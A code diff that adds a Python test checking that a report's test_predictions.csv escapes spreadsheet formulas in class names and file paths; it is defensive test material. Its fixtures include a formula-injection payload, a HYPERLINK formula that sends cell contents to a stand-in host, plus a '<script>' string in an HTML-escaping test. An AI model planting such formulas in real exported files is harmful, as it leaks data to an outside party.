@@ -3,6 +3,8 @@ search summary, and the page as headless Chromium renders it."""
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import json
 import re
 import subprocess
@@ -294,6 +296,23 @@ def test_user_strings_show_as_written_never_as_markup(tmp_path: Path) -> None:
             assert tag not in page, (name, tag)
         for text in (*HOSTILE_CLASSES, "/data/<b>root</b>", "<script>x</script>"):
             assert escape(text, quote=False) in page, (name, text)
+
+
+def test_test_predictions_csv_neutralises_formulas_in_paths_and_class_names(
+    tmp_path: Path,
+) -> None:
+    formulas = ['=HYPERLINK("http://x.test/"&A1,"click")', "-1+2", "@SUM(A1)"]
+    content = dataclasses.replace(
+        hostile_content(),
+        classes=formulas,
+        test_paths=[Path(f"+{i}.png") for i in range(6)],
+    )
+    write_report(content, tmp_path, figures=False)
+    with (tmp_path / "test_predictions.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["path"] for row in rows] == [f"'+{i}.png" for i in range(6)]
+    assert {row["true"] for row in rows} == {"'" + name for name in formulas}
+    assert all(row["predicted"][0] == "'" and float(row["probability"]) > 0 for row in rows)
 
 
 def test_an_ensemble_is_reported_beside_its_best_member(ensembled: Ensembled) -> None:
